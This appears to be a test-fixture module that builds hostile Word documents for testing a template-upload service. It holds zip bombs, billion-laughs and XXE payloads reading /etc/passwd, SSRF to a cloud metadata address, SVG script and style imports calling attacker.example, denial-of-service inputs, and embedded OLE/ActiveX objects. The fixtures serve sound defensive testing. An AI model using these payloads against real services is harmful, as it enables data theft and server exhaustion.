import { crc32, deflateRawSync, gzipSync } from 'node:zlib';

/**
 * Test fixtures: a minimal zip writer with full control over what the directory declares, and hostile .docx
 * files built with it (zip bombs that declare or hide their size, too many entries, huge XML, DTDs, external
 * links, encrypted entries, bad checksums, SVG images that read files or run scripts, OLE objects and ActiveX
 * controls). Used by the unit tests and the HTTP tests of template uploads.
 */

export interface RawEntry {
  name: string;
  /** Decoded content (what the entry really holds). */
  data: Uint8Array | string;
  /** Already-compressed bytes to store instead of deflating `data` (for cheap bombs). */
  compressed?: Uint8Array;
  method?: 0 | 8;
  /** Overrides of what the directory says. */
  declaredSize?: number;
  crc?: number;
  flags?: number;
}

const enc = new TextEncoder();

export function buildZip(entries: RawEntry[]): Uint8Array {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const data = typeof e.data === 'string' ? enc.encode(e.data) : e.data;
    const method = e.method ?? 8;
    const body = e.compressed ?? (method === 8 ? deflateRawSync(data) : data);
    const name = Buffer.from(e.name, 'utf8');
    const size = e.declaredSize ?? data.byteLength;
    const crc = e.crc ?? crc32(data) >>> 0;
    const flags = (e.flags ?? 0) | 0x800;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.byteLength, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.byteLength, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(body.byteLength, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.byteLength, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, Buffer.from(body));
    centrals.push(central, name);
    offset += 30 + name.byteLength + body.byteLength;
  }
  const dir = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(dir.byteLength, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...locals, dir, end]));
}

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
export const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
export const ROOT_RELS = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`;

/** word/document.xml with one paragraph per text (each text one run: tags stay whole). */
export function documentXml(paragraphs: string[], extraBody = ''): string {
  const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;');
  return `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="${W}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>${paragraphs.map((p) => `<w:p><w:r><w:t xml:space="preserve">${esc(p)}</w:t></w:r></w:p>`).join('')}${extraBody}</w:body></w:document>`;
}

/** A small valid .docx with the given paragraphs (and extra parts). */
export function simpleDocx(paragraphs: string[], extra: RawEntry[] = [], body = ''): Uint8Array {
  return buildZip([{ name: '[Content_Types].xml', data: CONTENT_TYPES }, { name: '_rels/.rels', data: ROOT_RELS }, { name: 'word/document.xml', data: documentXml(paragraphs, body) }, ...extra]);
}

export const MAIN_CONTENT_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';

/**
 * A .docx whose main document is a part NOT named `.xml` (a dummy word/document.xml beside it), declared in
 * [Content_Types].xml by an Override of its name or a Default of its extension, and targeted by `_rels/.rels`:
 * docxtemplater compiles it and LibreOffice opens it.
 */
export function mainPartNotNamedXml(data: string | Uint8Array, declare: 'override' | 'default' = 'override', name = 'word/document.dat'): Uint8Array {
  const declaration = declare === 'override' ? `<Override PartName="/${name}" ContentType="${MAIN_CONTENT_TYPE}"/>` : `<Default Extension="${name.slice(name.lastIndexOf('.') + 1)}" ContentType="${MAIN_CONTENT_TYPE}"/>`;
  const contentTypes = CONTENT_TYPES.replace(/<Override PartName="\/word\/document\.xml"[^>]*>/, declaration);
  return buildZip([
    { name: '[Content_Types].xml', data: contentTypes },
    { name: '_rels/.rels', data: ROOT_RELS.replace('word/document.xml', name) },
    { name: 'word/document.xml', data: documentXml(['x']) },
    { name, data },
  ]);
}

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE_RELS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const relsPart = (name: string, relationships: string): RawEntry => ({ name, data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${PACKAGE_RELS}">${relationships}</Relationships>` });
const relationship = (id: string, type: string, target: string) => `<Relationship Id="${id}" Type="${type.includes(':') ? type : `${REL}/${type}`}" Target="${target}"/>`;

/** A 1×1 PNG: the fallback Word writes beside an SVG picture, and the image a legitimate SVG may embed. */
export const PNG_1X1_BASE64 = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

/** An SVG document with `body` in its root element (the SVG and XLink namespaces declared). */
export const svgImage = (body: string, prolog = '<?xml version="1.0" encoding="UTF-8"?>') =>
  `${prolog}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="40" viewBox="0 0 120 40">${body}</svg>`;

/** `<w:drawing>` of a picture whose blip is `rId5` (the PNG fallback) with the SVG `rId6` in its extensions, as Word 2016+ writes it. */
export const SVG_PICTURE =
  '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="1143000" cy="381000"/><wp:docPr id="1" name="Picture 1"/>' +
  '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">' +
  '<pic:nvPicPr><pic:cNvPr id="1" name="logo.svg"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rId5"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}">' +
  '<asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rId6"/></a:ext></a:extLst></a:blip><a:stretch><a:fillRect/></a:stretch></pic:blipFill>' +
  '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1143000" cy="381000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>';

/**
 * A template (`{甲方}`) with an SVG picture and its PNG fallback as Word 2016+ writes them: the SVG in
 * `word/${name}`, declared by its extension in [Content_Types].xml when `declare` (png and svg Defaults).
 */
export function svgPictureDocx(svg: string | Uint8Array, { name = 'media/image2.svg', declare = true } = {}): Uint8Array {
  const defaults = declare ? '<Default Extension="png" ContentType="image/png"/><Default Extension="svg" ContentType="image/svg+xml"/>' : '<Default Extension="png" ContentType="image/png"/>';
  return buildZip([
    { name: '[Content_Types].xml', data: CONTENT_TYPES.replace('<Default Extension="xml"', `${defaults}<Default Extension="xml"`) },
    { name: '_rels/.rels', data: ROOT_RELS },
    { name: 'word/document.xml', data: documentXml(['甲方：{甲方}'], SVG_PICTURE) },
    relsPart('word/_rels/document.xml.rels', relationship('rId5', 'image', 'media/image1.png') + relationship('rId6', 'image', name)),
    { name: 'word/media/image1.png', data: new Uint8Array(Buffer.from(PNG_1X1_BASE64, 'base64')) },
    { name: `word/${name}`, data: svg },
  ]);
}

/** `<w:object>` as Word writes an embedded OLE object: a VML preview and `<o:OLEObject r:id="rId8">`. */
export const OLE_OBJECT =
  '<w:p><w:r><w:object xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" w:dxaOrig="1440" w:dyaOrig="1440">' +
  '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:72pt;height:72pt"><v:imagedata r:id="rId7" o:title=""/></v:shape>' +
  '<o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1700000000" r:id="rId8"/></w:object></w:r></w:p>';

/**
 * A template with an embedded object: `body` in word/document.xml, `relationships` in its relationship part,
 * the embedded bytes (`word/embeddings/oleObject1.bin`, an OLE storage header) and a preview image beside.
 */
export function embeddedObjectDocx(body: string, relationships: string, extra: RawEntry[] = []): Uint8Array {
  return simpleDocx(['甲方：{甲方}'], [
    relsPart('word/_rels/document.xml.rels', relationships),
    { name: 'word/media/image1.png', data: new Uint8Array(Buffer.from(PNG_1X1_BASE64, 'base64')) },
    { name: 'word/embeddings/oleObject1.bin', data: new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Array<number>(504).fill(0)]) },
    ...extra,
  ], body);
}

const MiB = 1024 * 1024;
let zeros64: Uint8Array | null = null;
/** Raw deflate of 64 MiB of zeros (≈ 64 KB), made once. */
function deflatedZeros(): Uint8Array {
  zeros64 ??= deflateRawSync(Buffer.alloc(64 * MiB));
  return zeros64;
}

export const hostileDocx = {
  notAZip: () => enc.encode('%PDF-1.7\nthis is not a Word document at all\n'),
  zipWithoutDocument: () => buildZip([{ name: '[Content_Types].xml', data: CONTENT_TYPES }, { name: 'hello.txt', data: 'hi' }]),
  /** An image entry that declares its 64 MiB honestly (over the per-entry budget). */
  honestBomb: () => simpleDocx(['x'], [{ name: 'word/media/image1.png', data: new Uint8Array(0), compressed: deflatedZeros(), declaredSize: 64 * MiB, crc: 0 }]),
  /** An entry that declares 1 KiB and inflates to 64 MiB. */
  lyingBomb: () => simpleDocx(['x'], [{ name: 'word/media/image1.png', data: new Uint8Array(0), compressed: deflatedZeros(), declaredSize: 1024, crc: 0 }]),
  /** document.xml itself lies about its size. */
  lyingXmlBomb: () => buildZip([{ name: '[Content_Types].xml', data: CONTENT_TYPES }, { name: 'word/document.xml', data: new Uint8Array(0), compressed: deflatedZeros(), declaredSize: 4096, crc: 0 }]),
  tooManyEntries: (n = 5000) => simpleDocx(['x'], Array.from({ length: n }, (_, i) => ({ name: `word/media/e${i}.bin`, data: 'x', method: 0 as const }))),
  /** 9 MiB of real paragraphs in document.xml (the XML budget is 8 MiB). */
  hugeXml: () => simpleDocx(Array.from({ length: 9 * 1024 }, () => 'x'.repeat(1024))),
  billionLaughs: () =>
    buildZip([
      { name: '[Content_Types].xml', data: CONTENT_TYPES },
      { name: 'word/document.xml', data: `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:t>&c;</w:t></w:r></w:p></w:body></w:document>` },
    ]),
  externalImage: () =>
    simpleDocx(['x'], [{ name: 'word/_rels/document.xml.rels', data: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///etc/passwd" TargetMode="External"/></Relationships>` }]),
  includeTextField: () => simpleDocx(['x'], [], `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "/etc/passwd" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`),
  encrypted: () => buildZip([{ name: '[Content_Types].xml', data: CONTENT_TYPES }, { name: 'word/document.xml', data: documentXml(['x']), flags: 0x1 }]),
  /** 90,000 `<w:instrText ` tags never closed (within the XML tag budget): a backtracking scan of them is quadratic. */
  unclosedFieldTags: () => simpleDocx(['{甲方}'], [], '<w:instrText '.repeat(90_000)),
  /** The same with `<w:fldSimple ` and, in the relationships part, `<Relationship `. */
  unclosedSimpleFields: () => simpleDocx(['{甲方}'], [], '<w:fldSimple '.repeat(90_000)),
  unclosedRelationships: () => simpleDocx(['{甲方}'], [{ name: 'word/_rels/document.xml.rels', data: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${'<Relationship '.repeat(90_000)}</Relationships>` }]),
  /** 1.3 million empty runs (12 KB zipped): docxtemplater held a document thread for 15 s and more. */
  manyEmptyRuns: () => simpleDocx(['{甲方}'], [], `<w:p>${'<w:r/>'.repeat(1_300_000)}</w:p>`),
  /** 110,000 paragraphs of four tags each (26 KB zipped): docxtemplater ran a thread out of memory compiling them. */
  manyTagOccurrences: () => simpleDocx(Array.from({ length: 110_000 }, () => '{a}{b}{c}{d}')),
  /** 80,000 tag openings in a main document named word/document.dat: it escaped the budgets of XML parts (1.5 s, 273 MB). */
  manyTagsNotNamedXml: () => mainPartNotNamedXml(documentXml(Array.from({ length: 20_000 }, () => '{a}{b}{c}{d}'))),
  badChecksum: () => buildZip([{ name: '[Content_Types].xml', data: CONTENT_TYPES }, { name: 'word/document.xml', data: documentXml(['x']), crc: 12345 }]),
  /** SVG pictures (with their PNG fallback) that LibreOffice would make read a file, fetch a URL or run code. */
  svgLocalFile: () => svgPictureDocx(svgImage('<image href="file:///etc/passwd" width="120" height="40"/>')),
  svgRemoteImage: () => svgPictureDocx(svgImage('<image xlink:href="http://169.254.169.254/latest/meta-data/" width="120" height="40"/>')),
  svgRemoteUse: () => svgPictureDocx(svgImage('<use href="http://attacker.example/sprite.svg#logo"/>')),
  svgStyleImport: () => svgPictureDocx(svgImage('<style>@import url("http://attacker.example/a.css");</style><rect width="10" height="10"/>')),
  svgStyleAttributeUrl: () => svgPictureDocx(svgImage('<rect width="10" height="10" style="fill:url(file:///etc/passwd#g)"/>')),
  svgScript: () => svgPictureDocx(svgImage('<script>fetch("http://attacker.example/")</script>')),
  svgForeignObject: () => svgPictureDocx(svgImage('<foreignObject width="100" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="file:///etc/passwd"/></foreignObject>')),
  svgEventHandler: () => svgPictureDocx(svgImage('<rect width="10" height="10" onload="alert(1)"/>')),
  svgExternalEntity: () => svgPictureDocx(svgImage('<text>&xxe;</text>', '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')),
  svgEncodedHref: () => svgPictureDocx(svgImage('<image xlink:href="&#104;ttp://attacker.example/x.png" width="1" height="1"/>')),
  /** An SVG named and declared as a PNG: LibreOffice picks an image's format from its bytes. */
  svgNamedPng: () => svgPictureDocx(svgImage('<image href="file:///etc/passwd"/>'), { name: 'media/image2.png', declare: false }),
  /** A gzip-compressed SVG (what LibreOffice reads as an .svgz), named .emz. */
  svgz: () => svgPictureDocx(new Uint8Array(gzipSync(svgImage('<image href="file:///etc/passwd"/>'))), { name: 'media/image2.emz', declare: false }),
  /** An embedded OLE object: `<w:object>`/`<o:OLEObject>` and its `oleObject` relationship. */
  oleObject: () => embeddedObjectDocx(OLE_OBJECT, relationship('rId7', 'image', 'media/image1.png') + relationship('rId8', 'oleObject', 'embeddings/oleObject1.bin')),
  /** Only an embedded workbook's `package` relationship (no element refers to it). */
  embeddedPackage: () => embeddedObjectDocx('', relationship('rId8', 'package', 'embeddings/Microsoft_Excel_Worksheet.xlsx'), [{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', data: 'PK' }]),
  /** Only `<w:object>` (no relationship at all). */
  oleElementOnly: () => embeddedObjectDocx(OLE_OBJECT.replace(/ r:id="rId\d"/g, ''), ''),
  /** An ActiveX control: `<w:control r:id>`, its `control` part and that part's `activeXControlBinary`. */
  activeXControl: () =>
    embeddedObjectDocx('<w:p><w:r><w:control r:id="rId9" w:name="TextBox1" w:shapeid="_x0000_s1026"/></w:r></w:p>', relationship('rId9', 'control', 'activeX/activeX1.xml'), [
      { name: 'word/activeX/activeX1.xml', data: '<?xml version="1.0" encoding="UTF-8"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ax:classid="{8BD21D10-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage" r:id="rId1"/>' },
      relsPart('word/activeX/_rels/activeX1.xml.rels', relationship('rId1', 'http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary', 'activeX1.bin')),
      { name: 'word/activeX/activeX1.bin', data: new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]) },
    ]),
};

const u32s = (...values: number[]) => {
  const b = Buffer.alloc(4 * values.length);
  values.forEach((v, i) => b.writeUInt32LE(v >>> 0, 4 * i));
  return b;
};

/** An EMF (100 × 100): its header, `records`, EOF. */
export function emfOf(records: Buffer[]): Uint8Array {
  const body = Buffer.concat(records);
  const eof = u32s(14, 20, 0, 16, 20);
  const header = Buffer.alloc(108);
  u32s(1, 108, 0, 0, 100, 100, 0, 0, 2646, 2646).copy(header, 0);
  u32s(0x464d4520 /* " EMF" */, 0x10000, 108 + body.length + eof.length, records.length + 2).copy(header, 40);
  header.writeUInt16LE(1, 56);
  u32s(1024, 768, 320, 240).copy(header, 72);
  return new Uint8Array(Buffer.concat([header, body, eof]));
}

/** A one-page PDF of 100 × 100 pt filled blue. */
function bluePdf(): Buffer {
  const objects = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R >>', '<< /Length 27 >>\nstream\n0 0 1 rg 0 0 100 100 re f\nendstream'];
  let out = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/**
 * An EMF whose EMR_COMMENT "GDIC" multiformats record carries a PDF (filled blue), after 1,200 bytes of a
 * private comment: LibreOffice's EMF reader hands it to pdfium when EMF+ is on.
 */
export function emfCarryingPdf(): Uint8Array {
  const pdf = bluePdf();
  const padded = Buffer.concat([pdf, Buffer.alloc((4 - (pdf.length % 4)) % 4)]);
  const filler = Buffer.concat([u32s(70, 12 + 1200, 1200), Buffer.alloc(1200, 0x41)]);
  const multiformats = Buffer.concat([u32s(0x43494447 /* GDIC */, 0x40000004, 0, 0, 100, 100, 1, 0x50444620 /* "PDF " */, 1, pdf.length, 48), padded]);
  return emfOf([filler, Buffer.concat([u32s(70, 12 + multiformats.length, multiformats.length), multiformats])]);
}

/** A PNG signature and an IHDR declaring `width` × `height` (1-bit grey), no image data: 33 bytes. */
export function pngHeader(width: number, height: number): Uint8Array {
  const ihdr = Buffer.alloc(25);
  ihdr.writeUInt32BE(13, 0);
  ihdr.write('IHDR', 4, 'latin1');
  ihdr.writeUInt32BE(width, 8);
  ihdr.writeUInt32BE(height, 12);
  ihdr[16] = 1;
  return new Uint8Array(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), ihdr]));
}
